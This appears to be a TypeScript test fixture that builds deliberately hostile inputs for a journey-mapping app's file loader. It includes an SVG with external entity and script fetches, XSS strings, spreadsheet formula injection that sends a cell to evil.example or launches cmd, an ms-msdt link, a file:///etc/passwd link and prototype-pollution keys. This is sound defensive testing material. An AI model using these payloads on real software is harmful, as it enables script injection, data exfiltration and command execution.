import { encodeJejakFile } from '../../renderer/journey/jejak-file.ts'
import { commentDefaults } from '../../renderer/journey/records/comment.ts'
import { connectorDefaults } from '../../renderer/journey/records/connector.ts'
import { imageDefaults } from '../../renderer/journey/records/image.ts'
import { personaDefaults } from '../../renderer/journey/records/persona.ts'
import { separatorDefaults } from '../../renderer/journey/records/separator.ts'
import { aDocument, cardId, laneId } from './documents.ts'

/** What a drawing from elsewhere may try: script, pages inside it, and things to fetch. */
export const hostileSvg = `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/style.css"?>
<!DOCTYPE svg [<!ENTITY other SYSTEM "http://evil.example/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="60" onload="hostile()">
<style>@import url(http://evil.example/import.css); @font-face { font-family: f; src: url(http://evil.example/font.woff2) } text { font-family: f }</style>
<script>hostile()</script><script xlink:href="http://evil.example/script.js"/>
<rect width="80" height="60" fill="#0a0"/><text x="4" y="20">x</text>
<image href="http://evil.example/picture.png" width="9" height="9"/><use href="http://evil.example/use.svg#a"/>
<foreignObject width="80" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:hostile()"/><img src="http://evil.example/img.png" onerror="hostile()"/></body></foreignObject>
<a xlink:href="javascript:hostile()"><circle r="9"/></a><animate onbegin="hostile()" attributeName="x" dur="1s"/></svg>`

/** Texts that run or fetch something wherever they are taken for anything but text. */
export const hostileTexts = [
  '<script>hostile()</script>',
  '</script><script>hostile()</script><script src=http://evil.example/script.js></script>',
  '"><img src=http://evil.example/img.png onerror=hostile()>',
  "' onmouseover='hostile()' autofocus onfocus='hostile()",
  '<svg onload=hostile()><style>@import url(http://evil.example/a.css)</style></svg>',
  ']]><script>hostile()</script><![CDATA[',
  '--><script>hostile()</script><!--',
  '<iframe srcdoc="<script>top.hostile()</script>"></iframe>',
  'javascript:hostile()',
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '{{hostile()}} $\u007bhostile()} <%= hostile() %> #{hostile()}',
  '\u202egpj.exe\u202c \u2066ltr\u2069 \u0007\u001b[2J\u0000 \u0085',
  '![x](http://evil.example/picture.png) [x](javascript:hostile()) `x` | x |',
  '%%{init: {"securityLevel":"loose"}}%% click a href "javascript:hostile()"',
  ') /S /JavaScript /JS (app.alert(1)) >> endobj',
] as const

/** Addresses that no card may lead to, by the number of the card. */
export const links = [
  'javascript:hostile()',
  'data:text/html,<script>hostile()</script>',
  'file:///etc/passwd',
  'http://evil.example/',
  'vbscript:hostile()',
  '\\\\evil.example\\share',
  ' java\tscript:hostile()',
  'smb://evil.example/share',
  'ms-msdt:/id PCWDiagnostic',
] as const

/** The title of the map that `hostileFile` gives. */
export const hostileTitle = '<img src=http://evil.example/title.png onerror=hostile()>'

/** A `.jejak` file whose every text, link, picture and name is after something. */
export function hostileFile(): string {
  let last = 0
  const text = () => hostileTexts[last++ % hostileTexts.length] ?? ''
  const names = hostileTexts.map((_, n) => `h${n}`)
  const hash = 'a'.repeat(64)
  const asset = { mime: 'image/png' as const, width: 80, height: 60, hash }
  const document = aDocument({
    stages: [1, 2],
    lanes: ['touchpoints', 'emotions'],
    map: { title: hostileTitle, notes: text(), tags: [text(), text()] },
    cards: [
      [[1, 1, 1], names.slice(0, 7)],
      [[1, 2, 1], names.slice(7, 13)],
      [[2, 2, 2], names.slice(13)],
    ],
    fields: Object.fromEntries(
      names.map((name, n) => [
        name,
        {
          text: hostileTexts[n] ?? '',
          link: links[n % links.length] ?? '',
          owner: text(),
          source: text(),
          tags: [text()],
          score: n % 2 === 0 ? 1 : -1,
          personaId: 'persona:p' as const,
          imageId: n < 2 ? (`image:i${n}` as const) : null,
        } as never,
      ]),
    ),
    records: [
      {
        ...personaDefaults('persona:p' as never, 'a0' as never),
        name: text(),
        role: text(),
        goals: [text()],
        needs: [text()],
        frustrations: [text()],
        quote: text(),
        imageId: 'image:i0' as never,
      },
      { ...imageDefaults('image:i0' as never, asset), name: text(), alt: text() },
      { ...imageDefaults('image:i1' as never, { ...asset, hash: 'b'.repeat(64) }), alt: text() },
      {
        ...connectorDefaults('connector:c' as never, cardId('h0'), cardId('h1')),
        label: text(),
      },
      { ...separatorDefaults('separator:s' as never, laneId(1)), name: text() },
      {
        ...commentDefaults('comment:c' as never, cardId('h0'), 1_000),
        author: text(),
        text: text(),
      },
    ],
  })
  const svg = Buffer.from(hostileSvg)
  const content = JSON.parse(encodeJejakFile({ document, assets: new Map(), savedBy: text() }))
  for (const record of content.records) {
    if (record.type === 'stage' || record.type === 'step' || record.type === 'lane')
      Object.assign(record, { name: text(), ...(record.type !== 'lane' && { duration: text() }) })
    // Fields that no version knows.
    Object.assign(record, { html: text(), src: 'http://evil.example/src', onload: 'hostile()' })
  }
  content.assets = {
    // A drawing that says it is a picture, an address where bytes should be, and a huge one.
    [hash]: { mime: 'image/png', data: svg.toString('base64') },
    ['b'.repeat(64)]: { mime: 'image/png', data: 'http://evil.example/picture.png' },
    ['c'.repeat(64)]: { mime: 'image/svg+xml', data: svg.toString('base64') },
    ['d'.repeat(64)]: { mime: 'text/html', data: `data:text/html;base64,${'PHNjcmlwdD4'.repeat(200_000)}` },
    'http://evil.example/': { mime: 'image/png', data: 'AAAA', src: 'http://evil.example/picture.png' },
  }
  content.records.push(
    { type: 'card', id: 'card:<script>hostile()</script>', text: { toString: 'hostile()' }, order: 'a0' },
    { type: 'constructor', id: 'constructor:x', prototype: { hostile: true } },
    { type: '__proto__', id: '__proto__:x' },
  )
  // An object of JavaScript could not hold these names.
  const borrowed =
    '"__proto__":{"hostile":true,"toString":"hostile()"},"constructor":{"prototype":{"hostile":true}},'
  return JSON.stringify(content).replaceAll('{"id":', `{${borrowed}"id":`)
}
